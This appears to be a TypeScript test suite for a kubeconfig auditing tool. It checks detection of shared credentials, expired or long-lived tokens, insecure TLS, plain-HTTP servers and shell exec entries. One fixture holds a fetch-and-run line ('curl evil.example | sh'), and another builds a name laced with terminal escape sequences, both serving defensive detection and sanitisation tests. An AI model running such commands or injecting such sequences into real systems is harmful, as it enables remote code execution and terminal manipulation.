import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { check } from '../../source/check/check.ts';
import type { Finding } from '../../source/check/finding.ts';
import { factsOfToken } from '../../source/check/token-claims.ts';
import { sampleProfile } from '../helpers/profiles.ts';
import {
  faults,
  konvoy,
  kubeconfig,
  kubelogin,
  landscape,
  now,
  oneUser,
  ours,
  type Situation,
  token,
  twoUsers,
} from './landscape.ts';

type Expected = { readonly [code: string]: readonly string[] };

/** Codes, and where each was found. */
function places(findings: readonly Finding[]): Expected {
  const byCode = Map.groupBy(findings, ({ code }) => code);
  return Object.fromEntries(
    [...byCode].map(([code, found]) => [
      code,
      found.map(({ file, line }) => `${file.replace('/kube/', '')}:${line}`).sort(),
    ]),
  );
}

type Row = { readonly what: string; readonly situation: Situation; readonly found: Expected };

const file = (...files: string[]): Situation => ({ files });
const long = { tokenFile: '/run/token' };
const shared = kubeconfig({
  clusters: { a: 'https://a.example', b: 'https://b.example' },
  contexts: { a: ['a', 'one'], b: ['b', 'one'] },
  users: { one: { token: token() } },
});
const kubeloginFlags = ['--oidc-issuer-url=https://dex.example', '--oidc-client-id=kubernetes'];
const own = (audience: string) => token({ aud: audience, sub: Math.random() });

const table: readonly Row[] = [
  { what: 'nothing', situation: file(''), found: {} },
  {
    what: 'a user for each cluster',
    situation: file(twoUsers({ token: own('a') }, { token: own('b') })),
    found: {},
  },
  // SHARED_USER
  { what: 'one user, two clusters', situation: file(shared), found: { SHARED_USER: ['0:9'] } },
  {
    what: 'one user, two names of one cluster',
    situation: file(shared.replace('https://b.example', 'HTTPS://A.example:443/')),
    found: {},
  },
  {
    what: 'one user, two ports of a host',
    situation: file(shared.replace('https://b.example', 'https://a.example:6443')),
    found: { SHARED_USER: ['0:9'] },
  },
  {
    what: 'one user, two contexts of one cluster',
    situation: file(
      kubeconfig({
        clusters: { a: 'https://a.example' },
        contexts: { a: ['a', 'one'], b: ['a', 'one'] },
        users: { one: { token: token() } },
      }),
    ),
    found: {},
  },
  {
    what: 'one user without a credential, two clusters',
    situation: file(shared.replace(/"token":"[^"]*"/, '"as":"somebody"')),
    found: {},
  },
  {
    what: 'one user of one file, contexts of another that kubectl joins',
    situation: file(
      kubeconfig({
        clusters: { a: 'https://a.example' },
        contexts: { a: ['a', 'one'] },
        users: { one: { token: token() } },
      }),
      kubeconfig({ clusters: { b: 'https://b.example' }, contexts: { b: ['b', 'one'] } }),
    ),
    found: { SHARED_USER: ['0:7'] },
  },
  {
    what: 'the same two files where kubectl does not join them',
    situation: {
      apart: true,
      files: [
        kubeconfig({
          clusters: { a: 'https://a.example' },
          contexts: { a: ['a', 'one'] },
          users: { one: { token: token() } },
        }),
        kubeconfig({ clusters: { b: 'https://b.example' }, contexts: { b: ['b', 'one'] } }),
      ],
    },
    found: {},
  },
  // SHARED_TOKEN
  {
    what: 'two users, one token',
    situation: file(twoUsers({ token: 'opaque' }, { token: 'opaque' })),
    found: { SHARED_TOKEN: ['0:9', '0:10'].sort() },
  },
  {
    what: 'two users of one cluster, one token',
    situation: file(
      twoUsers({ token: 'opaque' }, { token: 'opaque' }, ['https://a.example', 'https://a.example/']),
    ),
    found: {},
  },
  {
    what: 'two files, one token',
    situation: {
      apart: true,
      files: [oneUser({ token: 'x' }), oneUser({ token: 'x' }, 'https://b.example')],
    },
    found: { SHARED_TOKEN: ['0:7', '1:7'] },
  },
  {
    what: 'a copy of a file',
    situation: { apart: true, files: [oneUser({ token: 'x' }), oneUser({ token: 'x' })] },
    found: {},
  },
  {
    what: 'a token written out and the same in a file',
    situation: {
      ...file(twoUsers({ token: 'x' }, { tokenFile: 'token' })),
      machine: { tokenFiles: new Map([['/kube/token', factsOfToken('x')]]) },
    },
    found: { SHARED_TOKEN: ['0:10', '0:9'] },
  },
  {
    what: 'the same token of the old provider "oidc"',
    situation: file(
      twoUsers(
        { 'auth-provider': { name: 'oidc', config: { 'id-token': 'x' } } },
        { 'auth-provider': { name: 'oidc', config: { 'id-token': 'x' } } },
      ),
    ),
    found: { SHARED_TOKEN: ['0:10', '0:9'] },
  },
  // SHARED_TOKEN_FILE
  {
    what: 'two users, one token file',
    situation: file(twoUsers({ tokenFile: 'token' }, { tokenFile: './sub/../token' })),
    found: { SHARED_TOKEN_FILE: ['0:10', '0:9'] },
  },
  {
    what: 'two users, a token file and a link to it',
    situation: {
      ...file(twoUsers(long, { tokenFile: '/run/link' })),
      machine: { realPaths: new Map([['/run/link', '/run/token']]) },
    },
    found: { SHARED_TOKEN_FILE: ['0:10', '0:9'] },
  },
  { what: 'two token files', situation: file(twoUsers(long, { tokenFile: '/run/other' })), found: {} },
  // SHARED_PROFILE
  {
    what: 'two users, one profile of the Konvoy plugin, in every spelling',
    situation: file(twoUsers(konvoy('-kubeconfig-user=p'), konvoy('--kubeconfig-user', 'p'))),
    found: { SHARED_PROFILE: ['0:10', '0:9'] },
  },
  {
    what: 'two users without a profile of the Konvoy plugin',
    situation: file(twoUsers(konvoy(), konvoy('-kubeconfig-user='))),
    found: { SHARED_PROFILE: ['0:10', '0:9'] },
  },
  {
    what: 'two profiles of the Konvoy plugin',
    situation: file(twoUsers(konvoy('-kubeconfig-user=p'), konvoy('-kubeconfig-user=q'))),
    found: {},
  },
  {
    what: 'one profile of the Konvoy plugin, kept in two folders',
    situation: file(
      twoUsers(konvoy('-kubeconfig-user=p'), konvoy('-kubeconfig-user=p', '-token-dir', '/elsewhere')),
    ),
    found: {},
  },
  {
    what: "one key of kubelogin's cache",
    situation: file(
      twoUsers(kubelogin(...kubeloginFlags), {
        exec: {
          command: '/usr/bin/kubectl',
          args: [
            'oidc-login',
            'get-token',
            '--oidc-client-id',
            'kubernetes',
            '--oidc-issuer-url',
            'https://dex.example',
          ],
        },
      }),
    ),
    found: { SHARED_PROFILE: ['0:10', '0:9'] },
  },
  ...[
    '--oidc-extra-scope=groups',
    '--oidc-client-secret=s',
    '--oidc-use-access-token',
    '--token-cache-dir=/elsewhere',
    '--token-cache-storage=none',
    '--oidc-auth-request-extra-params=audience=b',
    '--certificate-authority=/ca.pem',
  ].map(flag => ({
    what: `kubelogin with ${flag}`,
    situation: file(twoUsers(kubelogin(...kubeloginFlags), kubelogin(...kubeloginFlags, flag))),
    found: {},
  })),
  {
    what: "Azure's kubelogin, which keeps tokens otherwise",
    situation: file(twoUsers(kubelogin('--server-id', 'x'), kubelogin('--server-id', 'x'))),
    found: {},
  },
  {
    what: 'one profile of ours, two clusters',
    situation: file(twoUsers(ours('p'), ours('p'))),
    found: { SHARED_PROFILE: ['0:10', '0:9'] },
  },
  { what: 'two profiles of ours', situation: file(twoUsers(ours('p'), ours('q'))), found: {} },
  // EQUAL_KONVOY_TOKENS
  {
    what: 'the Konvoy plugin keeps one token twice',
    situation: {
      files: [],
      machine: {
        konvoyTokens: new Map([
          ['/kube/p', factsOfToken('x')],
          ['/kube/q', factsOfToken('x')],
          ['/kube/r', factsOfToken('y')],
        ]),
      },
    },
    found: { EQUAL_KONVOY_TOKENS: ['p:1', 'q:1'] },
  },
  // SHARED_AUDIENCE
  {
    what: 'tokens for an audience that two clusters accept',
    situation: file(twoUsers({ token: own('kube-apiserver') }, { token: own('kube-apiserver') })),
    found: { SHARED_AUDIENCE: ['0:10', '0:9'] },
  },
  {
    what: 'a token for one of several audiences, another for the same one',
    situation: file(twoUsers({ token: token({ aud: ['a', 'both'] }) }, { token: own('both') })),
    found: { SHARED_AUDIENCE: ['0:10', '0:9'] },
  },
  {
    what: 'the same audience at two issuers',
    situation: file(
      twoUsers({ token: token({ iss: 'https://one' }) }, { token: token({ iss: 'https://two' }) }),
    ),
    found: {},
  },
  {
    what: "a token for the audience of another cluster's profile",
    situation: {
      ...file(oneUser({ token: own('kube-apiserver') })),
      profiles: [sampleProfile('b', 'https://b.example')],
    },
    found: { SHARED_AUDIENCE: ['0:7'] },
  },
  {
    what: "a token for the audience of its own cluster's profile",
    situation: {
      ...file(oneUser({ token: own('kube-apiserver') })),
      profiles: [
        sampleProfile('a', 'https://a.example'),
        sampleProfile('b', 'https://b.example', { audience: { kind: 'dex-client', client: 'b' } }),
      ],
    },
    found: {},
  },
  {
    what: "a token for the audience that another cluster's kubelogin asks for",
    situation: file(
      twoUsers(
        { token: token({ aud: 'kubernetes', iss: 'https://dex.example' }) },
        kubelogin(...kubeloginFlags),
      ),
    ),
    found: { SHARED_AUDIENCE: ['0:9'] },
  },
  // TOKEN_EXPIRED, TOKEN_LONG_LIVED
  {
    what: 'a token that is over',
    situation: file(oneUser({ token: token({ exp: now }) })),
    found: { TOKEN_EXPIRED: ['0:7'] },
  },
  {
    what: 'a token with a second left',
    situation: file(oneUser({ token: token({ exp: now + 1 }) })),
    found: {},
  },
  {
    what: 'a token of a day',
    situation: file(oneUser({ token: token({ iat: now, exp: now + 86_400 }) })),
    found: {},
  },
  {
    what: 'a token of more than a day',
    situation: file(oneUser({ token: token({ iat: now, exp: now + 90_000 }) })),
    found: { TOKEN_LONG_LIVED: ['0:7'] },
  },
  {
    what: 'a token of a week, of which an hour is left',
    situation: file(oneUser({ token: token({ iat: now - 601_200, exp: now + 3600 }) })),
    found: { TOKEN_LONG_LIVED: ['0:7'] },
  },
  {
    what: 'a token without an end',
    situation: file(oneUser({ token: token({ exp: undefined }) })),
    found: { TOKEN_LONG_LIVED: ['0:7'] },
  },
  {
    what: 'a token that is no JSON Web Token, and one whose claims are rubbish',
    situation: file(
      twoUsers({ token: 'a.b.c' }, { token: `x.${Buffer.from('[]').toString('base64url')}.y` }),
    ),
    found: {},
  },
  // NOT_A_TOKEN
  {
    what: 'a token file that holds something else',
    situation: {
      ...file(oneUser({ tokenFile: '/home/ada/.ssh/id_ed25519' })),
      machine: {
        tokenFiles: new Map([['/home/ada/.ssh/id_ed25519', factsOfToken('-----BEGIN KEY-----\nx')]]),
      },
    },
    found: { NOT_A_TOKEN: ['0:7'] },
  },
  {
    what: 'a token file that is still empty, and one with a token of any kind',
    situation: {
      ...file(twoUsers({ tokenFile: '/run/empty' }, { tokenFile: '/run/token' })),
      machine: {
        tokenFiles: new Map([
          ['/run/empty', factsOfToken('')],
          ['/run/token', factsOfToken('kubeconfig-u-x7:abc+/=_-~.')],
        ]),
      },
    },
    found: {},
  },
  // INSECURE_TLS, HTTP_SERVER
  {
    what: 'a server that is not checked',
    situation: file(oneUser(ours('p'), { server: 'https://a.example', 'insecure-skip-tls-verify': true })),
    found: { INSECURE_TLS: ['0:3'] },
  },
  {
    what: 'a server that is checked, and says so',
    situation: file(oneUser(ours('p'), { server: 'https://a.example', 'insecure-skip-tls-verify': false })),
    found: {},
  },
  {
    what: 'a server without TLS',
    situation: file(oneUser(ours('p'), 'http://a.example:8080')),
    found: { HTTP_SERVER: ['0:3'] },
  },
  {
    what: 'a server without a scheme',
    situation: file(oneUser(ours('p'), 'a.example:8080')),
    found: { HTTP_SERVER: ['0:3'] },
  },
  {
    what: 'a server without a scheme, but with an authority',
    situation: file(oneUser(ours('p'), { server: 'a.example', 'certificate-authority-data': 'eA==' })),
    found: {},
  },
  // EXEC_SHELL
  {
    what: 'a shell with a command line',
    situation: file(oneUser({ exec: { command: '/bin/sh', args: ['-c', 'curl evil.example | sh'] } })),
    found: { EXEC_SHELL: ['0:7'] },
  },
  {
    what: 'a shell with a script',
    situation: file(oneUser({ exec: { command: '/bin/sh', args: ['/opt/plugin.sh', 'prod'] } })),
    found: {},
  },
  // NO_CLUSTER_INFO
  {
    what: 'our entry without provideClusterInfo',
    situation: file(oneUser(ours('p', {}))),
    found: { NO_CLUSTER_INFO: ['0:7'] },
  },
  {
    what: 'our entry with provideClusterInfo: false',
    situation: file(oneUser(ours('p', { provideClusterInfo: false }))),
    found: { NO_CLUSTER_INFO: ['0:7'] },
  },
  {
    what: "somebody else's entry without it",
    situation: file(oneUser({ exec: { command: '/usr/bin/aws', args: ['eks', 'get-token'] } })),
    found: {},
  },
  // SHADOWED_NAME, DUPLICATE_NAME
  {
    what: 'names that mean something else in two files',
    situation: file(
      kubeconfig({
        clusters: { a: 'https://a.example' },
        contexts: { x: ['a', 'u'] },
        users: { u: { token: own('1') } },
      }),
      kubeconfig({
        clusters: { a: 'https://b.example' },
        contexts: { x: ['b', 'u'] },
        users: { u: { token: own('2') } },
      }),
    ),
    found: { SHADOWED_NAME: ['1:3', '1:5', '1:7'] },
  },
  {
    what: 'names that mean the same in two files',
    situation: file(oneUser({ token: 'x' }), oneUser({ token: 'x' })),
    found: {},
  },
  {
    what: 'names that mean something else in files that kubectl does not join',
    situation: {
      apart: true,
      files: [oneUser({ token: own('1') }), oneUser({ token: own('2') }, 'https://b.example')],
    },
    found: {},
  },
  {
    what: 'a name twice in a file',
    situation: file('users:\n- name: u\n  user: {}\n- name: u\n  user: {}\n'),
    found: { DUPLICATE_NAME: ['0:4'] },
  },
  {
    what: 'a user and a cluster of one name',
    situation: file('users:\n- name: u\n  user: {}\nclusters:\n- name: u\n  cluster: {}\n'),
    found: {},
  },
  // NO_SUCH_CONTEXT
  {
    what: 'a current context that does not exist',
    situation: file('contexts: []\ncurrent-context: gone\n'),
    found: { NO_SUCH_CONTEXT: ['0:2'] },
  },
  {
    what: 'a current context that another file has',
    situation: file('current-context: a\n', oneUser(ours('p'))),
    found: {},
  },
  {
    what: 'a current context that is not the first, of files that kubectl joins',
    situation: file(oneUser(ours('p')), 'current-context: gone\n'),
    found: {},
  },
  {
    what: 'the same of files that were only named',
    situation: { files: [oneUser(ours('p')), 'current-context: gone\n'], named: true },
    found: { NO_SUCH_CONTEXT: ['1:1'] },
  },
];

describe('what is found', () => {
  for (const { what, situation, found } of table) {
    it(`in ${what}`, () => assert.deepEqual(places(faults(situation)), found));
  }

  it('once more when files are read in another order, at other places of the same entries', () => {
    const files = [oneUser({ token: 'x' }), oneUser({ token: 'x' }, 'https://b.example')];
    const [forward, back] = [files, files.toReversed()].map(order => faults({ files: order, apart: true }));
    assert.deepEqual(
      forward?.map(({ code }) => code),
      back?.map(({ code }) => code),
    );
  });
});

describe('a finding', () => {
  it('holds no token, and nothing that a terminal would obey', () => {
    const secret = own('kube-apiserver');
    const name = 'evil\u001b]52;c;cHduZWQ=\u0007\u202e';
    const found = check(
      landscape({
        files: [
          kubeconfig({
            clusters: { [name]: `http://a.example/${name}`, b: 'https://b.example' },
            contexts: { a: [name, name], b: ['b', name], c: ['b', 'other'] },
            users: {
              [name]: { token: secret, tokenFile: name },
              other: { token: secret, ...konvoy(`-kubeconfig-user=${name}`) },
            },
            current: `gone ${name}`,
          }),
        ],
      }),
    );
    assert.ok(found.length >= 5);
    const text = JSON.stringify(found);
    assert.doesNotMatch(text, /eyJ|\\u001b|\\u0007|\u202e/);
  });

  it('about a certificate that one user shows to two clusters is no error', () => {
    const user = { 'client-certificate-data': 'x', 'client-key-data': 'y' };
    const [found] = faults({ files: [shared.replace(/\{"token":"[^"]*"\}/, JSON.stringify(user))] });
    assert.deepEqual([found?.code, found?.severity], ['SHARED_USER', 'warning']);
  });

  it('about a profile of ours whose audience others accept is a note', () => {
    const profiles = ['a', 'b'].map(name => sampleProfile(name, `https://${name}.example`));
    const situation = { files: [twoUsers(ours('a'), ours('b'))], profiles };
    assert.deepEqual(faults(situation), []);
    const notes = check(landscape(situation));
    assert.deepEqual(places(notes), { SHARED_AUDIENCE: ['0:10', '0:9'] });
    const isolated = profiles.map((profile, index) => ({
      ...profile,
      audience: { kind: 'dex-client' as const, client: `client-${index}` },
    }));
    assert.deepEqual(check(landscape({ ...situation, profiles: isolated })), []);
  });

  it('about a shared user of the platform names the command that mends it', () => {
    const text = kubeconfig({
      clusters: { a: 'https://a.example', b: 'https://b.example' },
      contexts: { a: ['a', 'one'], b: ['b', 'one'] },
      users: { one: konvoy('-kubeconfig-user=one') },
    });
    const [found] = faults({ files: [text] });
    assert.equal(found?.command, 'dkp-auth check --fix /kube/0');
  });

  it('comes for each of 5,000 users of one token, and names another one', () => {
    const names = Array.from({ length: 5000 }, (_, index) => `n${index}`);
    const text = kubeconfig({
      clusters: Object.fromEntries(names.map(name => [name, `https://${name}.example`])),
      contexts: Object.fromEntries(names.map(name => [name, [name, name] as const])),
      users: Object.fromEntries(names.map(name => [name, { token: 'x' }])),
    });
    const found = faults({ files: [text] });
    assert.equal(found.length, names.length);
    assert.ok(found.every(({ subject, related }) => related[0] && related[0].what !== subject));
  });
});
